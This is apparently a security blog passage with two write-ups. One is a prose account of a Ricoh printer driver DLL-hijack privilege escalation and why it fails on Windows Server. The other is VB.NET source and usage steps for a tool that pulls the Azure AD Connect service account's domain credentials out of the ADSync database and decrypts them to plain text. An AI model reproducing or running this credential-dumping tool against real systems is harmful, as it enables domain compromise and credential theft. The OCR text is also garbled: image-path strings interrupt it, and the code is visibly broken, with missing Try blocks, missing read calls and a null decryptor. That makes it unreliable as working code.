Ricoh Printer Exploit (Priv Esc To Local System)

First of all I should point out that at the moment this priv esc exploit only works on a workstation OS and not on a server OS (unless you can get into the Print Operators group). This post is about me trying, and failing, to get it to work on a server OS.

For more info on the exploit itself, read this:


  • A few Ricoh printer driver DLLs have “Everyone – Full Control” permissions by default
  • When a new printer is added using this driver, the print spooler service (which runs as Local System) will load these DLLs
  • Due to the bad permissons on the DLLs, any user can replace one of them with a malicious DLL. Then they canadd a new local printer using the existing driver and at this point the malicious DLL will get loaded by the print spooler service. So now you’ve got your code being executed as Local System
  • Regular users have permission to add new printers as long as they use a  driver that is already installed (so this exploit only works if one of the vulnerable drivers is already installed, as regular users cannot install new drivers)

So if you’re attacking a workstation, you’re good. There’s even a metasploit module that will do all the work for you as usual.

For a server OSthough, there’s a problem…

I tried to use this on a Windows Server 2019 machine that had the vulnerable driver installed and it failed. After some testing I discovered that this is because users do not have permission to add printers on a server, even if the driver is already installed. Recall from the bullet points above that we need to add a printer to trigger the print spooler service to load our malicious DLL.

In fact on a server OS, a regular user can’t even run the Powershell command Get-Printer to see a list of printers installed on the system:

The first thing I noticed in both the POC and the metasploit module code is that neither of them call the Windows AddPrinter API directly. The metasploit code calls the built in prnmngr.vbs script (which internally uses WMI) and the POC calls the PrintUIEntry function with rundll32.exe.

So just to make sure this permissions issue was not being caused by something in any of those scripts, I wrote a program that will call the AddPrinter API directly. I also made it call the EnumPrinters API to see if we can at least list existing printers, as even that fails with access denied when tried from Powershell as a non admin user.

Nothing crazy but for what its worth, the full code can be found on my github here:

Both of these operations worked perfectly fine as aregular user on my Windows 10 machine. So I moved them over to the target machine which is running Windows Server 2019 but there adding a printer fails with Access Denied:

The enum part of my program does succeed though, so at least we bypassed the Get-Printer access denied issue by calling the EnumPrinters API directly:

I noticed if we replace the original driver’s watermark.dll with a malicious DLL and then do anything that would cause it be accessed, the genuine DLL gets instantly copied back to the directory and overwrites our malicious DLL. This must be why in the original POC they are monitoring the file system for changes to detect when the original DLL gets copied back and then they quickly replace it again with the malicious DLL before it actually gets loaded by the print spooler service. I’ve implemented something similar using the .NET FileSystemWatcher class:

This worked as expected and now our malicious DLL always ends up being loaded instead of the original DLL (although making the program copy the DLL a few hundred times to make sure it sticks was maybe a bit overkill).

So now we have our malicious DLL in place, the problem is that we can only get it to be loaded by a process running as our regular user and not a system service. For example when we try to print to the printer from notepad or access the printer properties etc, our malicious DLL does get loaded but it is loaded by the notepad.exe process which is obviously running as our regular user and not Local System. So it seems like the only time the print spooler serviceloads these DLLs is when adding a new printer.

One other thing I noticed was that when we fail to add a new printer as a normal user, we see this in the Process Monitor stack trace:

When we do the same thing but as an admin, we don’t see this “AddPrinterCompletedInProc” function and instead we see a load of RPC calls. So I tried using the Samba RPC Client to call the AddPrinter RPC function directly (in the hopes that maybe we bypass the permissions check that is causing it to fail before it tries the RPC stuff), but this also fails with access denied:

I assumed the print spooler service would load all of the printer DLLs when it starts up, so perhaps we could crash the service and then when it auto restarts it would load our DLL. Unfortunately when I restarted the service I found it did not load any of these DLLs. To me it seems quite strange that it even loads the watermark DLL at all when the user adds a printer, because the print spooler service itself doesn’t seem to actually need it (otherwise it would load it itself when a user prints, or when the service starts).

One final weird observation is that in my tests I could only get the attack to work even with the user in the Print Operators group if the driver was set to run in isolated mode. This makes the print spooler service start a separate PrintIsolationHost.exe process when the driver is used and it is that process that loads the watermark.dll when we add a printer. No such issues on a workstation though (which is good as there’s no easy way to specify driver isolationthere AFAIK)

In summary: Whilst this works perfectly on a Windows 10 machine, I couldn’t get it to work on a server OS as a regular user unless they were a member of the Print Operators group. Hopefully someone else can take my findings and finish the job

Azure AD Connect Database Exploit (Priv Esc)

The Azure AD Connect service is essentially responsible for synchronizing things between your local AD domain, and the Azure based domain. However, to do this it needs privileged credentials for your local domain so that it can perform various operations such as syncing passwords etc. I recently discovered this great video that explains where it stores these credentials and how to decrypt them.

TL;DR: Its possible to just run some simple .NET or Powershell code on the server where Azure AD Connect is installed and instantly get plain text credentials for whatever AD account it is set to use!

Initially I thought I would have to repeat all of the steps they performed in the video (decompiling and watching API calls etc) to produce my own code that exploits this… but it turns out the presenter (Fox-It) was kind enough to provide this Github repo demonstrating exactly how to perform such an attack in C#.

There’s also this blog post by XPN InfoSec that provides more info as well as a working Powershell alternative.

Anyway, I thought I’d also have a go at writing my own version and compile it so its super easy to use and also gives you the option to choose between attacking an SQLExpress “LocalDb” database or a full fat SQL Server instance. Fox-It mentioned he had a download link for his compiled program in the Github readme, but I couldn’t get it to download (he also mentioned the way credentials are stored has changed recently so his code might not work now). I knew the Powershell script worked fine after changing the SQLconnection string when I tested it myself, so I used that as my base and wrote a similar utility in VB.NET.

There’s a download link for my compiled program at the bottom of this page but here’s the code for anyone interested:

Imports Microsoft.DirectoryServices.MetadirectoryServices.Cryptography
Imports System.Data.SqlClient
Imports System.Xml
Module MainModuleSub Main()
            Console.WriteLine(Environment.NewLine & "===" & Environment.NewLine &
                              "AZURE AD SYNC CREDENTIAL DECRYPTION TOOL" & Environment.NewLine &
                              "Based on original code from:" & Environment.NewLine &
                              "===" & Environment.NewLine)

            Dim SqlConnectionString As String = "Data Source=(LocalDB)\\.\\ADSync;Initial Catalog=ADSync;ConnectTimeout=20"

            If My.Application.CommandLineArgs.Count > 0 AndAlso String.Compare(My.Application.CommandLineArgs(0), "-FullSql", True) = 0 Then
                SqlConnectionString = "Server=LocalHost;Database=ADSync;Trusted_Connection=True;"
            End If

            Dim KeyId As UInteger
            Dim InstanceId As Guid
            Dim Entropy As Guid
            Dim ConfigXml As String
            Dim EncryptedPasswordXml As String

            Using SqlConn As NewSqlConnection(SqlConnectionString)
                    Console.WriteLine("Opening database connection...")
                    Using SqlCmd As New SqlCommand("SELECT instance_id, keyset_id, entropy FROM mms_server_configuration;", SqlConn)
                        Console.WriteLine("Executing SQL commands...")
                        Using Reader As SqlDataReader = SqlCmd.ExecuteReader
                            InstanceId = DirectCast(Reader("instance_id"), Guid)
                            KeyId = CUInt(Reader("keyset_id"))
                            Entropy = DirectCast(Reader("entropy"), Guid)
                        End Using
                    End Using
                    Using SqlCmd As New SqlCommand("SELECT private_configuration_xml, encrypted_configuration FROM mms_management_agent WHERE ma_type = 'AD'", SqlConn)
                        Using Reader As SqlDataReader = SqlCmd.ExecuteReader
                            ConfigXml = CStr(Reader("private_configuration_xml"))
                            EncryptedPasswordXml = CStr(Reader("encrypted_configuration"))
                        End Using
                    End Using
                Catch Ex As Exception
                    Console.WriteLine("Error reading from database: " & Ex.Message)
                    Exit Sub
                    Console.WriteLine("Closing database connection...")
                End TryConsole.WriteLine("Decrypting XML...")
                    Dim CryptoManager As New KeyManager
                    CryptoManager.LoadKeySet(Entropy, InstanceId, KeyId)
                    Dim Decryptor As Key = Nothing
                    Dim PlainTextPasswordXml As String = Nothing
                    Decryptor.DecryptBase64ToString(EncryptedPasswordXml, PlainTextPasswordXml)
                    Console.WriteLine("Parsing XML...")
                    Dim Domain AsString = String.Empty
                    Dim Username As String = String.Empty
                    Dim Password As String = String.Empty
                    Dim XmlDoc As New XmlDocument
                    Dim XmlNav As XPath.XPathNavigator = XmlDoc.CreateNavigator
                    Password = XmlNav.SelectSingleNode("//attribute").Value
                    XmlNav = XmlDoc.CreateNavigator
                    Domain = XmlNav.SelectSingleNode("//parameter[@name='forest-login-domain']").Value
                    Username = XmlNav.SelectSingleNode("//parameter[@name='forest-login-user']").Value
                    Console.WriteLine("Finished!" &
                                      Environment.NewLine &Environment.NewLine &
                                      "DECRYPTED CREDENTIALS:" & Environment.NewLine &
                                      "Username: " & Username & Environment.NewLine &
                                      "Password: " & Password & Environment.NewLine &
                                      "Domain: " & Domain & Environment.NewLine)
                Catch ex As Exception
                    Console.WriteLine("Error decrypting: " & ex.Message)
                End Try
            End Using
        Catch ex As Exception
            Console.WriteLine("Unexpected error: " & ex.Message)
        End Try
    End Sub

End Module

and when we run it on a machine that has the Azure AD Connect database on it, we get the AD account’s credentials in plain text (obviously I’ve blurred out the actual password, but you get the idea):


AdDecrypt.exe (with no parameters)

Will attempt to access the ADSync database on the default SQLExpress “LocalDb” instanceAdDecrypt.exe -FullSQL

Will attempt to access the ADSync database on a full fat MS SQL instance using windows authentication (the actual connection string used is: “Server=LocalHost;Database=ADSync;Trusted_Connection=True;” )

This program must be run while the AD Sync Bin folder is your “working directory”, or has been added to the PATH variable. An easy way to do this is simply navigate to the folder in Powershell or Command Prompt (i.e cd “C:\Program Files\Microsoft Azure AD Sync\Bin”), and then run the program by typing the full path to wherever you have stored it. You also need to make sure the mcrypt.dll from the download link is in the same directory the program is in. Failure to do either of these things will result in a Module Not Found error.

Download link:

Hope that helps someone  and again a big shout out to the guys at Fox-IT that figured all of this out originally, and the guys at XPN InfoSec whoput together the Powershellscript and some further explanation.